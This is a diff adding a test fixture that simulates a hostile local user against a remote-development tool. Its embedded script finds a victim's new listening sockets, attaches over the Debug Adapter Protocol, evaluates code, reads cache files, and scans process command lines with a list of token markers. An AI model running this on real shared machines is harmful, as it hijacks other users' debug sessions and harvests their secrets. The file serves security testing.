@@ -1,0 +1,207 @@
+"""Mallory: a second, unprivileged local user of the remote who attacks another user's
+sessions the way the shared machines of our users allow (see ``:help remote_dev-guarantees``).
+
+While she runs she polls the kernel's socket tables every 5 ms (world-readable, as `ss -ltn`
+reads them) for new listening TCP sockets of the victim's uid -- the uid column is readable
+by everyone, so a real attacker can aim as well, and this machine's other users' sockets are
+left alone -- and connects to each at once, speaking the Debug Adapter Protocol
+(initialize, attach, configurationDone, threads, pause, evaluate of the victim's uid). Every
+100 ms she also tries to list and read everything under the folders she is given (the
+victim's remote-dev cache) and reads every process's command line looking for the run's
+secrets. Ending her (closing her stdin) prints what she got:
+tried (sockets she connected to), answered (sockets that sent her any byte), accepted
+(`attach` answered with success), evaluated (`evaluate` answered), read (files she read or
+folders she listed), secrets (the victim's processes whose command line holds a long hex string
+or a value after one of SECRET_MARKERS).
+"""
+from __future__ import annotations
+
+import json
+import os
+import pwd
+import signal
+import subprocess
+import time
+from typing import Any
+
+PREFIX = "rdmallory"
+# What a secret on a command line is written after (debugpy's adapter, Jupyter, ours).
+SECRET_MARKERS = ("--server-access-token", "--adapter-access-token", "--access-token", "--client-access-token",
+                  "access_token=", "token=", "REMOTE_DEV_DEBUG_TOKEN", "--IdentityProvider.token", "--key")
+
+ATTACK = r'''
+import json, os, re, socket, struct, sys, threading, time
+uid, markers, paths = sys.argv[1], [s for s in sys.argv[2].split(",") if s], sys.argv[3:]
+# a long hex string, or a value after a marker (not None, not empty)
+SECRET = "[0-9a-fA-F]{32,}|(?:%s)[ =:]*['\"]?(?!None\\b)[^\\s'\",)]{8,}" % "|".join(re.escape(m) for m in markers)
+leaked = set()
+stats = {"tried": 0, "answered": 0, "accepted": 0, "evaluated": 0, "read": 0, "secrets": 0}
+lock = threading.Lock()
+stop = threading.Event()
+
+def count(key):
+    with lock:
+        stats[key] += 1
+
+def listening():
+    out = set()
+    for table, fam in (("/proc/net/tcp", 4), ("/proc/net/tcp6", 6)):
+        try:
+            with open(table) as f:
+                lines = f.read().splitlines()[1:]
+        except OSError:
+            continue
+        for line in lines:
+            x = line.split()
+            if len(x) > 9 and x[3] == "0A" and x[7] == uid:
+                out.add((fam, x[1], x[9]))
+    return out
+
+def address(fam, spelled):
+    a, p = spelled.split(":")
+    if fam == 4:
+        host = socket.inet_ntoa(struct.pack("=I", int(a, 16)))
+        return socket.AF_INET, ("127.0.0.1" if host == "0.0.0.0" else host), int(p, 16)
+    host = socket.inet_ntop(socket.AF_INET6, struct.pack("=4I", *[int(a[i:i + 8], 16) for i in range(0, 32, 8)]))
+    return socket.AF_INET6, ("::1" if host == "::" else host), int(p, 16)
+
+def frame(seq, command, arguments):
+    body = json.dumps({"seq": seq, "type": "request", "command": command, "arguments": arguments}).encode()
+    return b"Content-Length: %d\r\n\r\n" % len(body) + body
+
+REQUESTS = [("initialize", {"adapterID": "debugpy", "clientID": "mallory"}), ("attach", {"justMyCode": False}),
+            ("configurationDone", {}), ("threads", {}), ("pause", {"threadId": 1}),
+            ("evaluate", {"expression": "__import__('os').getuid()", "context": "repl"})]
+
+def attack(fam, host, port):
+    count("tried")
+    try:
+        s = socket.socket(fam, socket.SOCK_STREAM)
+        s.settimeout(3)
+        s.connect((host, port))
+        s.sendall(b"".join(frame(i + 1, c, a) for i, (c, a) in enumerate(REQUESTS)))
+        buf = b""
+        deadline = time.time() + 4
+        while time.time() < deadline:
+            try:
+                chunk = s.recv(65536)
+            except socket.timeout:
+                break
+            if not chunk:
+                break
+            buf += chunk
+        s.close()
+    except OSError:
+        return
+    if not buf:
+        return
+    count("answered")
+    while b"\r\n\r\n" in buf:
+        head, rest = buf.split(b"\r\n\r\n", 1)
+        try:
+            n = int([h for h in head.split(b"\r\n") if h.lower().startswith(b"content-length")][0].split(b":")[1])
+            msg = json.loads(rest[:n])
+        except Exception:
+            break
+        buf = rest[n:]
+        if msg.get("type") == "response" and msg.get("success"):
+            if msg.get("command") == "attach":
+                count("accepted")
+            if msg.get("command") == "evaluate":
+                count("evaluated")
+
+def snoop():
+    for top in paths:
+        for dirpath, dirs, files in os.walk(top):
+            count("read")
+            for name in files:
+                try:
+                    with open(os.path.join(dirpath, name), "rb") as f:
+                        f.read(1)
+                    count("read")
+                except OSError:
+                    pass
+    if markers:
+        for pid in os.listdir("/proc"):
+            if not pid.isdigit() or pid in leaked:
+                continue
+            try:
+                if str(os.stat("/proc/" + pid).st_uid) != uid:
+                    continue
+                with open("/proc/%s/cmdline" % pid, "rb") as f:
+                    line = f.read().replace(b"\0", b" ").decode(errors="replace")
+            except OSError:
+                continue
+            if re.search(SECRET, line):
+                leaked.add(pid)
+                count("secrets")
+
+def watch():
+    seen = listening()
+    last = 0.0
+    while not stop.is_set():
+        now = listening()
+        for fam, spelled, inode in now - seen:
+            t = threading.Thread(target=attack, args=address(fam, spelled))
+            t.daemon = True
+            t.start()
+        seen |= now
+        if time.time() - last > 0.1:
+            snoop()
+            last = time.time()
+        time.sleep(0.005)
+
+threading.Thread(target=watch, daemon=True).start()
+print("ready", flush=True)
+sys.stdin.read()
+stop.set()
+time.sleep(4.5)
+with lock:
+    print(json.dumps(stats), flush=True)
+'''
+
+
+def sweep() -> None:
+    """Attackers an earlier, aborted session made (its pytest is gone)."""
+    from support.remote import remove_user
+
+    for entry in pwd.getpwall():
+        digits = entry.pw_name[len(PREFIX):]
+        if entry.pw_name.startswith(PREFIX) and not (digits.isdigit() and os.path.exists(f"/proc/{digits}")):
+            remove_user(entry.pw_name)
+
+
+class Mallory:
+    """The attacking user; start() her against a victim's uid, stop() for her figures."""
+
+    def __init__(self) -> None:
+        sweep()
+        self.name = f"{PREFIX}{os.getpid()}"
+        subprocess.run(["useradd", "--create-home", "--shell", "/bin/bash", self.name], check=True,
+                       capture_output=True, timeout=60)
+        self.proc: subprocess.Popen[str] | None = None
+
+    def start(self, victim_uid: int, paths: list[str], markers: tuple[str, ...] = SECRET_MARKERS) -> None:
+        self.proc = subprocess.Popen(["runuser", "-u", self.name, "--", "/usr/bin/python3", "-I", "-c", ATTACK,
+                                      str(victim_uid), ",".join(markers), *paths],
+                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd="/")
+        assert self.proc.stdout is not None
+        assert self.proc.stdout.readline().strip() == "ready"
+
+    def stop(self) -> dict[str, Any]:
+        assert self.proc is not None and self.proc.stdin is not None
+        self.proc.stdin.close()
+        assert self.proc.stdout is not None
+        out = self.proc.stdout.read()
+        self.proc.wait(30)
+        self.proc = None
+        return json.loads(out.strip().splitlines()[-1])
+
+    def remove(self) -> None:
+        from support.remote import remove_user
+
+        if self.proc is not None:
+            self.proc.send_signal(signal.SIGKILL)
+            self.proc.wait(10)
+        time.sleep(0.1)
+        remove_user(self.name)
